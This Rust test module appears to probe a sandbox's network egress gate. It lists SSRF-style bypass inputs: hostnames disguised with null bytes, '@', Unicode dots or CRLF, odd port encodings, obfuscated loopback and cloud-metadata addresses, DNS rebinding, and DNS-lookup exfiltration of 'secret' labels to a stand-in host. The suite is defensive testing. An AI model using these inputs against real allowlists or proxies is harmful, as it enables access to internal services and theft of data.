//! Names and addresses that a rule reads one way and a resolver another, and names that lead where nobody may go. What was
//! asked of DNS and what arrived is judged, not only what the gate says.

use crate::{
    attack::{Attack, Class, Control, Finding, act},
    outside,
    stage::{Stage, Target, recipe},
    support::Outcome,
    wire::{SILENCE, Step, brief, get, status, tunnel},
};

const ONE: &[&str] = &["standard"];
/// What most of these attacks are tried under.
pub(crate) const RULES: &str = "secrets = [\"API_TOKEN\", \"QUERY_TOKEN\", \"BODY_TOKEN\"]
[network]
allow = [\"open.out.test:*\", \"web.out.test\", \"https.out.test\", \"judged.out.test:* GET,POST /open/**\", \"key.out.test:*\", \"body.out.test:*\"]
";
/// Any name but one, and so no address.
pub(crate) const WIDE: &str = "[network]\nallow = [\"*:*\"]\ndeny = [\"denied.out.test:*\", \"*.denied.out.test:*\"]\n";
/// Addresses by name of the operator, who still listed only one.
const LITERALS: &str = "[network]
allow = [\"127.0.0.1:*\", \"127.0.0.2:*\", \"0.0.0.0:*\", \"169.254.169.254:*\", \"10.0.0.1:*\", \"100.100.100.200:*\", \"[::1]:*\", \"[::]:*\", \"[fe80::1]:*\", \"[64:ff9b::7f00:2]:*\", \"[fd00:ec2::254]:*\"]
";

pub(crate) fn all() -> Vec<Attack> {
    let gate = |name, with, act, place, control| {
        Attack::act(Class::Gate, name, act, Control::Act(place, control)).on(ONE).with(with)
    };
    let own = "by its own name";
    vec![
        gate("name_that_looks_allowed", RULES, act!(looks_allowed), own, act!(own_name)),
        gate("name_that_looks_allowed_in_a_url", RULES, act!(looks_allowed_url), own, act!(own_name_url)),
        gate(
            "denied_name_written_otherwise",
            WIDE,
            act!(denied_otherwise),
            "by a name that is not denied",
            act!(own_name),
        ),
        gate(
            "denied_name_written_otherwise_in_a_url",
            WIDE,
            act!(denied_url),
            "by a name that is not denied",
            act!(own_name_url),
        ),
        gate("port_written_otherwise", RULES, act!(ports), "the port as it is written", act!(own_port)),
        gate("address_under_any_name", WIDE, act!(addresses), "where the address is allowed", act!(listed_address)),
        gate("address_nobody_listed", LITERALS, act!(unlisted), "the one that is listed", act!(listed_address)),
        gate("name_of_a_private_address", WIDE, act!(private_answers), "the name of a listed address", act!(own_name)),
        gate(
            "name_that_changes_its_answer",
            WIDE,
            act!(rebinding),
            "a client that resolves twice",
            act!(resolves_twice),
        ),
        gate("lookups_as_a_channel", RULES, act!(channel), "where the names are allowed", act!(channel_open)),
    ]
}

/// Forms of a name, to each of which nothing may be resolved, connected or sent.
async fn none_of(stage: &Stage, target: &Target, forms: &[Vec<u8>], in_url: bool) -> Outcome<Finding> {
    let mut said = vec![];
    for form in forms {
        let mark = stage.mark();
        let (asked, plain) = (stage.outside.asked().len(), stage.outside.connections("plain"));
        let steps = if in_url {
            let rest = format!("/{mark} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
            let line = [b"GET http://", &form[..], rest.as_bytes()];
            vec![Step::Send(line.concat()), Step::Answer(SILENCE)]
        } else {
            tunnel(form, vec![Step::send(get(&format!("/{mark}"), &String::from_utf8_lossy(form)))])
        };
        let heard = stage.wire(target, &steps).await?;
        let shown = form.escape_ascii();
        let names = stage.outside.asked().split_off(asked);
        if !names.is_empty() {
            return Ok(Finding::escaped(format!("{shown}: {} was resolved", names.join(" "))));
        }
        if stage.outside.saw(&mark) || stage.outside.connections("plain") > plain {
            return Ok(Finding::escaped(format!("{shown}: it was reached")));
        }
        if status(&heard).starts_with('2') {
            return Ok(Finding::escaped(format!("{shown}: it was let through")));
        }
        said.push(brief(&heard));
    }
    said.sort();
    said.dedup();
    Ok(Finding::contained(format!("{} forms: {}", forms.len(), said.join(", "))))
}

fn forms(port: u16, names: &[&[u8]]) -> Vec<Vec<u8>> {
    names.iter().map(|name| [name, format!(":{port}").as_bytes()].concat()).collect()
}

/// With a name in them that is allowed, for a resolver or a person who stops reading, or begins, at another place.
const LOOKS_ALLOWED: &[&[u8]] = &[
    b"evil.test\0.open.out.test",
    b"evil.test\x01open.out.test",
    b"evil.test%00.open.out.test",
    b"evil.test%2eopen.out.test.evil.test",
    b"open.out.test@evil.test",
    b"open.out.test:80@evil.test",
    b"evil.test#open.out.test",
    b"evil.test?open.out.test",
    b"evil.test/open.out.test",
    b"evil.test\\open.out.test",
    b"evil.test;open.out.test",
    b"evil.test,open.out.test",
    b"evil.test open.out.test",
    b"evil.test\topen.out.test",
    b"open.out.test.",
    b"open.out.test..",
    b".open.out.test",
    b"open..out.test",
    b"open%2eout%2etest",
    b"%6fpen.out.test",
    "open\u{3002}out.test".as_bytes(),
    "open\u{ff0e}out\u{ff61}test".as_bytes(),
    "o\u{ff50}en.out.test".as_bytes(),
    "open.out.te\u{17f}t".as_bytes(),
    b"open.out.test.evil.test",
    b"xopen.out.test",
    b"x.open.out.test",
    b"open.out.test\r\nX: y",
    b"[open.out.test]",
    b"*.out.test",
    b"*",
    b"",
];

fn too_long(port: u16) -> Vec<Vec<u8>> {
    let label = "a".repeat(64);
    let long = format!("{}open.out.test", "a.".repeat(130));
    let huge = format!("{}.open.out.test", "a".repeat(70_000));
    [label + ".open.out.test", long, huge].map(|name| format!("{name}:{port}").into_bytes()).to_vec()
}

async fn looks_allowed(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let port = stage.outside.plain;
    none_of(stage, target, &[forms(port, LOOKS_ALLOWED), too_long(port)].concat(), false).await
}

async fn looks_allowed_url(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let port = stage.outside.plain;
    // Of these a URL ends the host, and what is before is the host: nobody allowed that.
    none_of(stage, target, &[forms(port, LOOKS_ALLOWED), too_long(port)].concat(), true).await
}

const DENIED: &[&[u8]] = &[
    b"denied.out.test",
    b"DENIED.out.test",
    b"Denied.Out.Test",
    b"denied.out.test.",
    b"denied.out.test\0",
    b"denied.out.test%00",
    b"denied%2eout.test",
    b"%64enied.out.test",
    "denied\u{3002}out.test".as_bytes(),
    "\u{ff44}enied.out.test".as_bytes(),
    b"x@denied.out.test",
    b"x:y@denied.out.test",
    b"x.DENIED.out.test",
    b" denied.out.test",
    b"denied.out.test ",
];

async fn denied_otherwise(stage: &Stage, target: &Target) -> Outcome<Finding> {
    none_of(stage, target, &forms(stage.outside.plain, DENIED), false).await
}

async fn denied_url(stage: &Stage, target: &Target) -> Outcome<Finding> {
    none_of(stage, target, &forms(stage.outside.plain, DENIED), true).await
}

async fn own_name(stage: &Stage, target: &Target) -> Outcome<Finding> {
    none_of(stage, target, &forms(stage.outside.plain, &[b"OPEN.out.test"]), false).await
}

async fn own_name_url(stage: &Stage, target: &Target) -> Outcome<Finding> {
    none_of(stage, target, &forms(stage.outside.plain, &[b"OPEN.out.test"]), true).await
}

/// Ports 80 and 443 are allowed; what some parser would take for one of them, or cut to it, is not.
async fn ports(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let odd = [
        "0443",
        "+443",
        " 443",
        "443 ",
        "0x1bb",
        "443x",
        "65979",
        "4294967739",
        "-443",
        "4 43",
        "443:80",
        "",
        "0",
        "443\0",
        "443/",
    ];
    let forms: Vec<Vec<u8>> = odd.iter().map(|port| format!("web.out.test:{port}").into_bytes()).collect();
    let other = format!("web.out.test:{}", stage.outside.plain).into_bytes();
    // An empty port is the scheme's, and that one is allowed.
    let forms: Vec<_> = forms.into_iter().filter(|form| !form.ends_with(b":")).chain([other]).collect();
    none_of(stage, target, &forms, false).await
}

async fn own_port(stage: &Stage, target: &Target) -> Outcome<Finding> {
    none_of(stage, target, &[b"web.out.test:443".to_vec()], false).await
}

const ADDRESSES: &[&[u8]] = &[
    b"127.0.0.1",
    b"127.0.0.2",
    b"2130706433",
    b"017700000001",
    b"0x7f000001",
    b"0x7f.0.0.1",
    b"0177.0.0.1",
    b"127.1",
    b"127.0.1",
    b"127.0.0.1.",
    b"127.000.000.001",
    b"0.0.0.0",
    b"0",
    b"[::1]",
    b"[::]",
    b"[::ffff:127.0.0.1]",
    b"[::ffff:7f00:1]",
    b"[::127.0.0.1]",
    b"[64:ff9b::7f00:1]",
    b"[2002:7f00:1::]",
    b"[::1%25lo]",
    b"[::1%lo]",
    b"[fe80::1%25eth0]",
    b"::1",
    b"169.254.169.254",
    b"2852039166",
    b"0xa9fea9fe",
    b"[::ffff:a9fe:a9fe]",
    b"[fd00:ec2::254]",
];

/// `*` is any name: an address has to be written.
async fn addresses(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let port = stage.outside.plain;
    let tunnels = none_of(stage, target, &forms(port, ADDRESSES), false).await?;
    if matches!(tunnels, Finding::Escaped(_)) {
        return Ok(tunnels);
    }
    none_of(stage, target, &forms(port, ADDRESSES), true).await
}

async fn unlisted(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let hidden = stage.outside.connections("hidden");
    let but_listed = [
        "127.0.0.2",
        "0.0.0.0",
        "169.254.169.254",
        "10.0.0.1",
        "100.100.100.200",
        "[::1]",
        "[::]",
        "[fe80::1]",
        "[64:ff9b::7f00:2]",
        "[::ffff:127.0.0.2]",
        "[fd00:ec2::254]",
    ];
    let forms = forms(stage.outside.plain, &but_listed.map(str::as_bytes));
    for in_url in [false, true] {
        let found = none_of(stage, target, &forms, in_url).await?;
        if matches!(found, Finding::Escaped(_)) {
            return Ok(found);
        }
    }
    let reached = stage.outside.connections("hidden") - hidden;
    Ok(if reached > 0 { Finding::escaped("127.0.0.2 was reached") } else { Finding::contained("none is dialled") })
}

async fn listed_address(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let target = stage.target(target.profile, &recipe(target.profile, LITERALS, &[])).await?;
    none_of(stage, &target, &forms(stage.outside.plain, &[b"127.0.0.1"]), false).await
}

/// Names of which all or one of the answers are private: resolved, since the rules allow the names, and not dialled.
async fn private_answers(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (port, hidden, mut said) = (stage.outside.plain, stage.outside.connections("hidden"), vec![]);
    let names = [
        "private",
        "neighbour",
        "metadata",
        "unspecified",
        "mixed",
        "mixed-six",
        "alias",
        "mapped",
        "nat64",
        "loopback-six",
    ];
    for name in names {
        for in_url in [false, true] {
            let mark = stage.mark();
            let steps = if in_url {
                vec![Step::send(get(&format!("http://{name}.out.test:{port}/{mark}"), "x")), Step::Answer(SILENCE)]
            } else {
                tunnel(format!("{name}.out.test:{port}"), vec![Step::send(get(&format!("/{mark}"), "x"))])
            };
            let heard = stage.wire(target, &steps).await?;
            if stage.outside.saw(&mark) || stage.outside.connections("hidden") > hidden || status(&heard) == "200" {
                return Ok(Finding::escaped(format!("{name} was reached: {}", brief(&heard))));
            }
            said.push(brief(&heard));
        }
    }
    said.sort();
    said.dedup();
    Ok(Finding::contained(format!("{} names: {}", names.len(), said.join(", "))))
}

/// One answer is listed and the next is not: what is dialled is what was checked, each time.
async fn rebinding(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (port, hidden) = (stage.outside.plain, stage.outside.connections("hidden"));
    let (mut through, mut refused) = (0, 0);
    for _ in 0..12 {
        let steps = tunnel(format!("rebind.out.test:{port}"), vec![Step::send(get("/rebound", "x"))]);
        match status(&stage.wire(target, &steps).await?) {
            "200" => through += 1,
            "403" => refused += 1,
            other => return Err(format!("neither reached nor refused: {other}").into()),
        }
    }
    let reached = stage.outside.connections("hidden") - hidden;
    if reached > 0 {
        return Ok(Finding::escaped(format!("{reached} of 12 reached the private address")));
    }
    if refused == 0 || through == 0 {
        return Err(format!("the name did not change: {through} through, {refused} refused").into());
    }
    Ok(Finding::contained(format!("{through} dialled as checked, {refused} refused")))
}

async fn resolves_twice(stage: &Stage, _: &Target) -> Outcome<Finding> {
    for _ in 0..4 {
        let checked = outside::resolve(stage.outside.dns, "rebind.out.test").await?;
        let dialled = outside::resolve(stage.outside.dns, "rebind.out.test").await?;
        if checked.to_string() == "127.0.0.1" && dialled != checked {
            tokio::net::TcpStream::connect((dialled, stage.outside.plain)).await?;
            return Ok(Finding::escaped(format!("checked {checked}, dialled {dialled}")));
        }
        outside::resolve(stage.outside.dns, "rebind.out.test").await?;
    }
    Ok(Finding::contained("the name did not change"))
}

/// Every way a program inside has to make a name known, with data in it.
async fn tell_names(stage: &Stage, target: &Target) -> Outcome<Finding> {
    let (asked, port) = (stage.outside.asked().len(), stage.outside.plain);
    let dns = stage.outside.dns.to_string();
    for number in 0..8 {
        let name = format!("s3cr3t-part-{number}.leak.test");
        for steps in [
            tunnel(format!("{name}:{port}"), vec![]),
            vec![Step::send(get(&format!("http://{name}:{port}/"), &name)), Step::Answer(SILENCE)],
        ] {
            stage.wire(target, &steps).await?;
        }
        // Answers are not expected: a question that arrives is enough.
        stage.exec(target, &["/workspace/attacks", "--inside", "lookup", &name]).await?;
        stage.exec(target, &["/workspace/attacks", "--inside", "ask_dns", &dns, &name]).await?;
    }
    let leaked = stage.outside.asked().split_off(asked);
    Ok(if leaked.is_empty() {
        Finding::contained("32 tries, no question")
    } else {
        Finding::escaped(format!("{} questions, as {}", leaked.len(), leaked[0]))
    })
}

async fn channel(stage: &Stage, target: &Target) -> Outcome<Finding> {
    tell_names(stage, target).await
}

async fn channel_open(stage: &Stage, target: &Target) -> Outcome<Finding> {
    tell_names(stage, &*stage.target(target.profile, &recipe(target.profile, WIDE, &[])).await?).await
}
